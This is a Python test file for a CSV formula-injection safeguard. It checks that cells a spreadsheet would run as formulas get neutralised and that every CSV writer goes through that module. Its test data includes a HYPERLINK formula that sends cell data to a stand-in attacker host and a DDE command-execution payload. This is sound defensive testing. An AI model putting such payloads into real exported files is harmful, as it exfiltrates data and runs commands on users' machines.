"""core.safecsv: every cell a spreadsheet would run as a formula is neutralised, and every CSV the
project writes goes through it. (The CSVs of the CLI and the dashboard, checked cell by cell on a store
of hostile judge names: tests/test_security.py.)"""

import re
from pathlib import Path

import pytest

from core import safecsv

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_each_leading_character(value):
    out = safecsv.safe_cell(value)
    assert out == "'" + value
    assert safecsv.safe_cell("plain judge") == "plain judge" and safecsv.safe_cell(-0.25) == -0.25


def test_no_csv_is_written_around_safecsv():
    """Every CSV writer goes through core.safecsv (a new one would bypass the neutralising)."""
    offenders = []
    for folder in ("core", "dashboard", "pages"):
        for p in (ROOT / folder).glob("*.py"):
            if p.name == "safecsv.py":
                continue
            text = p.read_text()
            if re.search(r"(?<!safecsv)\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
                offenders.append(p.name)
    assert not offenders, offenders
